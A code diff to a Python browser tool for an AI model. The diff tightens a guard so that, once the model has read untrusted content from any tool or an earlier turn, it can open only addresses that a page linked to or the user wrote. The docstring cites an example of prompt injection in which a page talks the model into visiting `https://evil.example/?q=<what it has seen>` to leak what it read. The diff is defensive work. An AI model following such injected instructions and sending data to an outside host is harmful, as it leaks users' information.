@@ -2,15 +2,16 @@
 
 - A `Browser` is the memory of one conversation: its pages keep their numbers, from 0, so that `【3†L4-L7】` in an
   answer can always be resolved to the lines that were read.
-- What comes back is untrusted and says so. Once anything was read, the model may open only addresses that a page
-  linked to or the user wrote: a page that talks it into `https://evil.example/?q=<what it has seen>` gets nowhere.
+- What comes back is untrusted and says so. Once anything was read, here, by another tool or in an earlier turn, the
+  model may open only addresses that a page of this turn linked to or the user wrote: a page that talks it into
+  `https://evil.example/?q=<what it has seen>` gets nowhere.
 """
 
 from __future__ import annotations
 
 import asyncio
 import re
-from collections.abc import Mapping
+from collections.abc import Callable, Mapping
 from dataclasses import dataclass, replace
 from datetime import date
 from typing import Any
@@ -96,13 +97,17 @@ class Browser:
     """The pages of one conversation and the tools that open them.
 
     Each way out is there only if it is given: `search` asks a search provider, `fetch` opens pages of the web, `files`
-    searches and opens the user's folders.
+    searches and opens the user's folders. `heard` tells whether the model has read what others wrote elsewhere.
     """
 
     def __init__(
-        self, search: SearchProvider | None = None, fetch: Fetcher | None = None, files: LocalIndex | None = None
+        self,
+        search: SearchProvider | None = None,
+        fetch: Fetcher | None = None,
+        files: LocalIndex | None = None,
+        heard: Callable[[], bool] = lambda: False,
     ) -> None:
-        self._search, self._fetch, self._files = search, fetch, files
+        self._search, self._fetch, self._files, self._heard = search, fetch, files, heard
         self.pages: list[Page] = []
         self._known: set[str] = set()
 
@@ -166,7 +171,8 @@ class Browser:
         if isinstance(url_id, str) and not url_id.strip().isdecimal():
             if outlink_idx is not None:
                 raise ValueError("outlink_idx belongs to the number of a page, not to an address.")
-            if self.pages and _key(url_id) not in self._known and not url_id.startswith("file:"):
+            known = _key(url_id) in self._known or url_id.startswith("file:")
+            if not known and (self.pages or self._heard()):
                 raise ValueError(
                     "No page links to this address and the user did not write it. Open it through an out-link, search "
                     "for it, or ask the user for the address."
